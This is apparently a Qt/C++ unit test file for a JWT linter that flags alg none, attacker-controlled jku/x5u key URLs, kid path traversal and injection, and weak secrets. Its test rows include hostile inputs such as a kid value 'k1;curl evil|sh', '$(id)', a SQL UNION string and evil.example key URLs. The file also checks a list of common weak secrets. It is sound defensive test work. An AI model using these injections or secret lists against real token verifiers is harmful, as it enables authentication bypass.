// SPDX-License-Identifier: MIT
#include "base64url.h"
#include "findings.h"
#include "token.h"

#include <QSet>
#include <QTest>

namespace {

constexpr double now = 1700000100; // 2023-11-14T22:15:00Z
const QByteArray someSignature = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";

QString jws(const QByteArray &header, const QByteArray &payload,
            const QByteArray &signature = someSignature)
{
    return QString::fromLatin1(Base64Url::encode(header) + '.' + Base64Url::encode(payload) + '.'
                               + signature);
}

QString jwe(const QByteArray &header)
{
    return QString::fromLatin1(Base64Url::encode(header) + ".a2V5.aXY.Y2lwaGVy.dGFn");
}

const QByteArray goodHeader = R"({"alg":"HS256","typ":"JWT"})";
const QByteArray goodPayload = R"({"sub":"1","iat":1700000000,"exp":1700003600})";

QByteArray withClaims(const QByteArray &extra)
{
    return R"({"sub":"1","iat":1700000000,"exp":1700003600,)" + extra + '}';
}

struct Row
{
    const char *name;
    QString token;
    const char *id;
    Finding::Severity severity;
    TokenPart part;
};

QList<Row> rows()
{
    using S = Finding::Severity;
    using P = TokenPart;
    const auto header = [](const QByteArray &h) {
        return jws(h, goodPayload);
    };
    const auto payload = [](const QByteArray &p) {
        return jws(goodHeader, p);
    };
    return {
            {"alg none", jws(R"({"alg":"none"})", goodPayload, ""), "alg-none", S::Error,
             P::Header},
            {"alg NONE (case variant)", jws(R"({"alg":"NoNe"})", goodPayload, ""), "alg-none",
             S::Error, P::Header},
            {"alg unknown", header(R"({"alg":"HS1"})"), "alg-unsupported", S::Warning, P::Header},
            {"alg of a JWE in a JWS", header(R"({"alg":"RSA-OAEP"})"), "alg-unsupported",
             S::Warning, P::Header},
            {"empty signature", jws(goodHeader, goodPayload, ""), "empty-signature", S::Error,
             P::Signature},
            {"typ a number", header(R"({"alg":"HS256","typ":1})"), "typ-not-string", S::Warning,
             P::Header},
            {"typ unusual", header(R"({"alg":"HS256","typ":"text/plain"})"), "typ-unusual", S::Info,
             P::Header},
            {"cty a number", header(R"({"alg":"HS256","cty":true})"), "cty-not-string", S::Warning,
             P::Header},
            {"cty JWT", header(R"({"alg":"HS256","cty":"JWT"})"), "cty-nested", S::Info, P::Header},
            {"cty other", header(R"({"alg":"HS256","cty":"application/json"})"), "cty-unusual",
             S::Info, P::Header},
            {"crit not an array", header(R"({"alg":"HS256","crit":"exp","exp":1})"),
             "crit-malformed", S::Error, P::Header},
            {"crit empty", header(R"({"alg":"HS256","crit":[]})"), "crit-malformed", S::Error,
             P::Header},
            {"crit names a registered parameter", header(R"({"alg":"HS256","crit":["alg"]})"),
             "crit-malformed", S::Error, P::Header},
            {"crit names an absent parameter", header(R"({"alg":"HS256","crit":["ext"]})"),
             "crit-malformed", S::Error, P::Header},
            {"crit entry not a string", header(R"({"alg":"HS256","crit":[1]})"), "crit-malformed",
             S::Error, P::Header},
            {"crit entry twice", header(R"({"alg":"HS256","crit":["ext","ext"],"ext":1})"),
             "crit-malformed", S::Error, P::Header},
            {"crit unknown extension", header(R"({"alg":"HS256","crit":["ext"],"ext":1})"),
             "crit-unknown", S::Error, P::Header},
            {"b64 false", header(R"({"alg":"HS256","b64":false,"crit":["b64"]})"), "b64-false",
             S::Warning, P::Header},
            {"b64 false, not critical", header(R"({"alg":"HS256","b64":false})"), "b64-false",
             S::Warning, P::Header},
            {"jku", header(R"({"alg":"RS256","jku":"https://evil.example/jwks.json"})"), "jku",
             S::Warning, P::Header},
            {"x5u", header(R"({"alg":"RS256","x5u":"https://evil.example/cert.pem"})"), "x5u",
             S::Warning, P::Header},
            {"embedded jwk", header(R"({"alg":"RS256","jwk":{"kty":"RSA","n":"AQAB","e":"AQAB"}})"),
             "embedded-jwk", S::Warning, P::Header},
            {"x5c", header(R"({"alg":"RS256","x5c":["MIIB"]})"), "x5c", S::Warning, P::Header},
            {"kid a number", header(R"({"alg":"HS256","kid":7})"), "kid-not-string", S::Warning,
             P::Header},
            {"kid dot-dot", header(R"({"alg":"HS256","kid":"../../dev/null"})"),
             "kid-path-traversal", S::Warning, P::Header},
            {"kid slash", header(R"({"alg":"HS256","kid":"keys/k1"})"), "kid-path-traversal",
             S::Warning, P::Header},
            {"kid backslash", header(R"({"alg":"HS256","kid":"keys\\k1"})"), "kid-path-traversal",
             S::Warning, P::Header},
            {"kid SQL quote", header(R"({"alg":"HS256","kid":"x' UNION SELECT 'key"})"),
             "kid-injection", S::Warning, P::Header},
            {"kid SQL comment", header(R"({"alg":"HS256","kid":"k1 --"})"), "kid-injection",
             S::Warning, P::Header},
            {"kid shell", header(R"({"alg":"HS256","kid":"k1;curl evil|sh"})"), "kid-injection",
             S::Warning, P::Header},
            {"kid command substitution", header(R"x({"alg":"HS256","kid":"$(id)"})x"),
             "kid-injection", S::Warning, P::Header},
            {"kid newline", header(R"({"alg":"HS256","kid":"k1\nk2"})"), "kid-injection",
             S::Warning, P::Header},
            {"JWE", jwe(R"({"alg":"RSA-OAEP-256","enc":"A256GCM"})"), "jwe", S::Info, P::Header},
            {"JWE unknown alg", jwe(R"({"alg":"FOO","enc":"A256GCM"})"), "jwe-unknown-alg",
             S::Warning, P::Header},
            {"JWE no enc", jwe(R"({"alg":"dir"})"), "jwe-unknown-enc", S::Warning, P::Header},
            {"JWE RSA1_5", jwe(R"({"alg":"RSA1_5","enc":"A128CBC-HS256"})"), "jwe-rsa1_5",
             S::Warning, P::Header},
            {"JWE jku", jwe(R"({"alg":"dir","enc":"A128GCM","jku":"https://x.example/k"})"), "jku",
             S::Warning, P::Header},
            {"no exp", payload(R"({"sub":"1","iat":1700000000})"), "no-exp", S::Warning,
             P::Payload},
            {"exp a string", payload(R"({"sub":"1","exp":"tomorrow"})"), "exp-not-number", S::Error,
             P::Payload},
            {"nbf a string", payload(withClaims(R"("nbf":"now")")), "nbf-not-number", S::Warning,
             P::Payload},
            {"iat a boolean", payload(R"({"iat":true,"exp":1700003600})"), "iat-not-number",
             S::Warning, P::Payload},
            {"exp in milliseconds", payload(R"({"iat":1700000000,"exp":1700003600000})"),
             "time-in-milliseconds", S::Warning, P::Payload},
            {"iat in milliseconds", payload(R"({"iat":1700000000000,"exp":1700003600})"),
             "time-in-milliseconds", S::Warning, P::Payload},
            {"exp astronomically far", payload(R"({"exp":1e300})"), "time-out-of-range", S::Warning,
             P::Payload},
            {"iat in the future", payload(R"({"iat":1700007200,"exp":1700010800})"),
             "iat-in-future", S::Warning, P::Payload},
            {"nbf after exp", payload(withClaims(R"("nbf":1700007200)")), "nbf-after-exp", S::Error,
             P::Payload},
            {"nbf equal to exp", payload(withClaims(R"("nbf":1700003600)")), "nbf-after-exp",
             S::Error, P::Payload},
            {"exp before iat", payload(R"({"iat":1700000000,"exp":1699990000})"), "exp-before-iat",
             S::Warning, P::Payload},
            {"lifetime two days", payload(R"({"iat":1700000000,"exp":1700172800})"),
             "long-lifetime", S::Warning, P::Payload},
            {"lifetime ten years", payload(R"({"iat":1700000000,"exp":2015360000})"),
             "long-lifetime", S::Warning, P::Payload},
            {"password member", payload(withClaims(R"("password":"hunter2")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"pwd member", payload(withClaims(R"("pwd":"x")")), "sensitive-claim", S::Warning,
             P::Payload},
            {"passwd member", payload(withClaims(R"("user_passwd":"x")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"nested clientSecret", payload(withClaims(R"("app":{"clientSecret":"x"})")),
             "sensitive-claim", S::Warning, P::Payload},
            {"SSN member", payload(withClaims(R"("SSN":"078-05-1120")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"escaped name", payload(withClaims(R"("pass\u0077ord":"x")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"camelCase whole word", payload(withClaims(R"("userPin":"1234")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"snake_case whole word", payload(withClaims(R"("card_pan":"x")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"acronym then word", payload(withClaims(R"("IBANNumber":"x")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"card number string", payload(withClaims(R"("note":"4111 1111 1111 1111")")),
             "card-number", S::Warning, P::Payload},
            {"card number dashed in array",
             payload(withClaims(R"("cards":[{"n":"5555-5555-5555-4444"}])")), "card-number",
             S::Warning, P::Payload},
            {"card number as number", payload(withClaims(R"("n":378282246310005)")), "card-number",
             S::Warning, P::Payload},
            {"integer beyond 2^53", payload(withClaims(R"("id":12345678901234567890)")),
             "big-integer", S::Warning, P::Payload},
            {"2^53 + 1", payload(withClaims(R"("id":9007199254740993)")), "big-integer", S::Warning,
             P::Payload},
            {"negative beyond 2^53", payload(withClaims(R"("d":[-9007199254740993])")),
             "big-integer", S::Warning, P::Payload},
    };
}

bool hasId(const QList<Finding> &findings, const QString &id)
{
    return std::any_of(findings.cbegin(), findings.cend(),
                       [&](const Finding &f) { return f.id == id; });
}

QString ids(const QList<Finding> &findings)
{
    QStringList list;
    for (const Finding &f : findings)
        list.append(f.id);
    return list.join(QLatin1String(", "));
}

QList<Finding> review(const QString &text, qint64 leeway = 0)
{
    ReviewContext context;
    context.now = now;
    context.leeway = leeway;
    return Findings::review(Token::parse(text), context);
}

} // namespace

class TestFindings : public QObject
{
    Q_OBJECT

private slots:
    void finds_data();
    void finds();
    void contentsApart_data();
    void contentsApart();
    void everyIdHasARow();
    void noFindings_data();
    void noFindings();
    void notFlagged_data();
    void notFlagged();
    void leewayForIat();
    void sortedWorstFirst();
    void messagesQuoteSafely();
    void weakSecret_data();
    void weakSecret();
    void commonSecrets();
    void severityNames();
    void malformedTokensDoNotCrash_data();
    void malformedTokensDoNotCrash();
};

void TestFindings::finds_data()
{
    QTest::addColumn<QString>("token");
    QTest::addColumn<QString>("id");
    QTest::addColumn<int>("severity");
    QTest::addColumn<int>("part");
    for (const Row &row : rows()) {
        QTest::newRow(row.name) << row.token << QString::fromLatin1(row.id) << int(row.severity)
                                << int(row.part);
    }
}

void TestFindings::finds()
{
    QFETCH(QString, token);
    QFETCH(QString, id);
    QFETCH(int, severity);
    QFETCH(int, part);
    const QList<Finding> findings = review(token);
    const auto it = std::find_if(findings.cbegin(), findings.cend(),
                                 [&](const Finding &f) { return f.id == id; });
    QVERIFY2(it != findings.cend(), qPrintable(QStringLiteral("got: ") + ids(findings)));
    QCOMPARE(int(it->severity), severity);
    QCOMPARE(int(it->part), part);
    QVERIFY(!it->message.isEmpty());
    QVERIFY(!it->message.contains(QLatin1Char('\n')));
    QVERIFY(!it->reference.isEmpty());
    for (const Finding &f : findings)
        QVERIFY2(Findings::ids().contains(f.id), qPrintable(f.id));
}

void TestFindings::contentsApart_data()
{
    finds_data();
}

/// The model caches the contents scan per token and reviews the rest on every clock tick:
/// the two halves must add up to the whole review, in the same order.
void TestFindings::contentsApart()
{
    QFETCH(QString, token);
    const Token parsed = Token::parse(token);
    ReviewContext context;
    context.now = now;
    const QList<Finding> whole = Findings::review(parsed, context);
    context.contents = false;
    QList<Finding> halves = Findings::review(parsed, context) + Findings::reviewContents(parsed);
    Findings::sort(halves);
    QCOMPARE(ids(halves), ids(whole));
    for (qsizetype i = 0; i < whole.size(); ++i)
        QCOMPARE(halves.at(i).message, whole.at(i).message);
    // The contents scan reports only payload findings, and only it reports these.
    const QStringList contentIds = {QStringLiteral("sensitive-claim"),
                                    QStringLiteral("card-number"), QStringLiteral("big-integer")};
    for (const Finding &f : Findings::reviewContents(parsed))
        QVERIFY2(contentIds.contains(f.id), qPrintable(f.id));
    for (const Finding &f : Findings::review(parsed, context))
        QVERIFY2(!contentIds.contains(f.id), qPrintable(f.id));
}

void TestFindings::everyIdHasARow()
{
    // weakSecret(), tested below; keyFindings(), tested in tst_keyfindings.
    QSet<QString> covered {QStringLiteral("weak-secret"), QStringLiteral("key-alg-mismatch"),
                           QStringLiteral("small-rsa-key")};
    for (const Row &row : rows())
        covered.insert(QString::fromLatin1(row.id));
    const QStringList all = Findings::ids();
    for (const QString &id : all)
        QVERIFY2(covered.contains(id), qPrintable(id));
    QCOMPARE(QSet<QString>(all.cbegin(), all.cend()).size(), all.size());
}

void TestFindings::noFindings_data()
{
    QTest::addColumn<QString>("token");
    QTest::newRow("HS256 with iat and a one-hour exp") << jws(goodHeader, goodPayload);
    QTest::newRow("RS256, at+jwt, plain kid")
            << jws(R"({"alg":"RS256","typ":"at+jwt","kid":"2024-05_key.v2"})",
                   R"({"iss":"https://issuer.example","aud":["a","b"],"exp":1700003600,)"
                   R"("iat":1700000000,"nbf":1700000000,"scope":"read write"})");
    QTest::newRow("ES256, application/jwt, exactly 24 h") << jws(
            R"({"typ":"application/jwt","alg":"ES256"})", R"({"iat":1700000000,"exp":1700086400})");
    QTest::newRow("exp only, no iat") << jws(goodHeader, R"({"exp":1700003600})");
    QTest::newRow("fractional NumericDates")
            << jws(goodHeader, R"({"iat":1700000000.5,"exp":1700003600.25})");
    QTest::newRow("2^53 - 1 and big fractions")
            << jws(goodHeader, withClaims(R"("n":9007199254740991,"x":12345678901234567890.5)"));
    QTest::newRow("millisecond timestamp under another name")
            << jws(goodHeader, withClaims(R"("created_ms":1700000000000)"));
    QTest::newRow("digits failing Luhn")
            << jws(goodHeader, withClaims(R"("order":"4111111111111112")"));
    QTest::newRow("harmless names")
            << jws(goodHeader,
                   withClaims(R"("className":"x","passenger":"y","compass":1,)"
                              R"("pinned":true,"spanish":"es","Pinecone":2)"));
    QTest::newRow("crit b64 true")
            << jws(R"({"alg":"HS256","b64":true,"crit":["b64"]})", goodPayload);
    QTest::newRow("payload not JSON") << jws(goodHeader, "hello");
}

void TestFindings::noFindings()
{
    QFETCH(QString, token);
    const QList<Finding> findings = review(token);
    QVERIFY2(findings.isEmpty(), qPrintable(ids(findings)));
}

void TestFindings::notFlagged_data()
{
    QTest::addColumn<QString>("token");
    QTest::addColumn<QString>("id");
    QTest::newRow("crit b64 is understood")
            << jws(R"({"alg":"HS256","b64":false,"crit":["b64"]})", goodPayload)
            << QStringLiteral("crit-unknown");
    QTest::newRow("alg none has its own finding, not empty-signature")
            << jws(R"({"alg":"none"})", goodPayload, "") << QStringLiteral("empty-signature");
    QTest::newRow("a JWE has no claims to check")
            << jwe(R"({"alg":"dir","enc":"A128GCM"})") << QStringLiteral("no-exp");
    QTest::newRow("JWE typ JOSE") << jwe(R"({"alg":"dir","enc":"A128GCM","typ":"JOSE"})")
                                  << QStringLiteral("typ-unusual");
    QTest::newRow("JWS typ JOSE (RFC 7515 §4.1.9)")
            << jws(R"({"alg":"HS256","typ":"JOSE"})", goodPayload) << QStringLiteral("typ-unusual");
    QTest::newRow("ten-digit numbers are not cards")
            << jws(goodHeader, withClaims(R"("n":4111111111)")) << QStringLiteral("card-number");
    QTest::newRow("a sensitive name is reported once")
            << jws(goodHeader, withClaims(R"("a":{"password":1},"b":{"password":2})"))
            << QStringLiteral("never");
}

void TestFindings::notFlagged()
{
    QFETCH(QString, token);
    QFETCH(QString, id);
    const QList<Finding> findings = review(token);
    QVERIFY2(!hasId(findings, id), qPrintable(ids(findings)));
    QVERIFY(std::count_if(findings.cbegin(), findings.cend(),
                          [](const Finding &f) { return f.id == QLatin1String("sensitive-claim"); })
            <= 1);
}

void TestFindings::leewayForIat()
{
    const QString token = jws(goodHeader, R"({"iat":1700000160,"exp":1700003600})");
    QVERIFY(hasId(review(token, 0), QStringLiteral("iat-in-future")));
    QVERIFY(!hasId(review(token, 60), QStringLiteral("iat-in-future")));
}

void TestFindings::sortedWorstFirst()
{
    // info (cty), warning (jku, no exp), error (alg none) in header order
    const QList<Finding> findings = review(
            jws(R"({"cty":"JWT","jku":"https://x.example/k","alg":"none"})", R"({"sub":"1"})", ""));
    QVERIFY(findings.size() >= 4);
    for (qsizetype i = 1; i < findings.size(); ++i)
        QVERIFY(int(findings.at(i - 1).severity) <= int(findings.at(i).severity));
    QCOMPARE(findings.first().id, QStringLiteral("alg-none"));
    QCOMPARE(findings.last().id, QStringLiteral("cty-nested"));

    QList<Finding> list(3);
    list[0].id = QStringLiteral("i");
    list[0].severity = Finding::Severity::Info;
    list[1].id = QStringLiteral("w1");
    list[2].id = QStringLiteral("w2");
    Findings::sort(list);
    QCOMPARE(ids(list), QStringLiteral("w1, w2, i"));
}

void TestFindings::messagesQuoteSafely()
{
    const QByteArray longKid = "../" + QByteArray(500, 'a');
    const QList<Finding> findings
            = review(jws(R"({"alg":"HS256","kid":")" + longKid + R"(\u0000\r"})", goodPayload));
    QVERIFY(hasId(findings, QStringLiteral("kid-path-traversal")));
    for (const Finding &f : findings) {
        QVERIFY(f.message.size() < 300);
        QVERIFY(!f.message.contains(QChar(0)));
        QVERIFY(!f.message.contains(QLatin1Char('\r')));
    }
}

void TestFindings::weakSecret_data()
{
    QTest::addColumn<QByteArray>("secret");
    QTest::addColumn<QString>("shown");
    QTest::newRow("named") << QByteArray("keyboard cat") << QStringLiteral("\"keyboard cat\"");
    QTest::newRow("empty") << QByteArray() << QStringLiteral("empty");
}

void TestFindings::weakSecret()
{
    QFETCH(QByteArray, secret);
    QFETCH(QString, shown);
    const Finding f = Findings::weakSecret(secret);
    QCOMPARE(f.id, QStringLiteral("weak-secret"));
    QCOMPARE(f.severity, Finding::Severity::Error);
    QCOMPARE(f.part, TokenPart::Signature);
    QVERIFY2(f.message.contains(shown), qPrintable(f.message));
    QVERIFY(!f.reference.isEmpty());
}

void TestFindings::commonSecrets()
{
    const QStringList &list = Findings::commonSecrets();
    QVERIFY(list.size() >= 300);
    for (const char *s :
         {"secret", "your-256-bit-secret", "your_secret_key", "mysecretkey", "secretkey",
          "changeme", "password", "123456", "jwt_secret", "supersecret", "shhhhh", "keyboard cat"})
        QVERIFY2(list.contains(QLatin1String(s)), s);
    QCOMPARE(QSet<QString>(list.cbegin(), list.cend()).size(), list.size());
    for (const QString &s : list)
        QVERIFY(!s.isEmpty() && s.trimmed() == s);
}

void TestFindings::severityNames()
{
    QCOMPARE(severityName(Finding::Severity::Error), QStringLiteral("error"));
    QCOMPARE(severityName(Finding::Severity::Warning), QStringLiteral("warning"));
    QCOMPARE(severityName(Finding::Severity::Info), QStringLiteral("info"));
}

void TestFindings::malformedTokensDoNotCrash_data()
{
    QTest::addColumn<QString>("token");
    QTest::newRow("empty") << QString();
    QTest::newRow("one part") << QStringLiteral("abc");
    QTest::newRow("header not JSON") << jws("{", goodPayload);
    QTest::newRow("header an array") << jws("[1]", goodPayload);
    QTest::newRow("payload open string") << jws(goodHeader, R"({"password":"x)");
    QTest::newRow("four parts") << jws(goodHeader, goodPayload) + QStringLiteral(".x");
    QTest::newRow("deep payload") << jws(goodHeader, QByteArray(600, '[') + QByteArray(600, ']'));
}

void TestFindings::malformedTokensDoNotCrash()
{
    QFETCH(QString, token);
    const QList<Finding> findings = review(token);
    for (const Finding &f : findings)
        QVERIFY(Findings::ids().contains(f.id));
}

QTEST_GUILESS_MAIN(TestFindings)
#include "tst_findings.moc"
